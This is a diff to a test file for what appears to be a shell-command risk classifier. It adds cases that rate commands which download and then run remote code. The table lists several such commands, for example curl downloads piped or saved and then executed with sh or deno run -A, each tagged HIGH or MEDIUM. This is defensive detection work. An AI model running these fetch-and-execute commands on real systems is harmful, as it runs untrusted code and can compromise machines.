@@ -50,6 +50,8 @@ def test_what_is_saved_is_code_from_elsewhere(name: str) -> None:
         ("gh release download v1 -p 'a.sh' && sh a.sh", Level.HIGH),
         ("git show FETCH_HEAD:a.sh | sh", Level.HIGH),
         ("git show HEAD:a.sh | sh", Level.MEDIUM),
+        ("curl -o /tmp/u https://h.example/u && deno run -A /tmp/u", Level.HIGH),
+        ("curl -o data https://h.example/u && ./tool data", Level.MEDIUM),
         ("curl -s h | dd of=/tmp/a && sh /tmp/a", Level.HIGH),
         ("curl -s h | install -m 755 /dev/stdin /tmp/a && /tmp/a", Level.HIGH),
         ("echo ls | dd of=/tmp/a && sh /tmp/a", Level.MEDIUM),
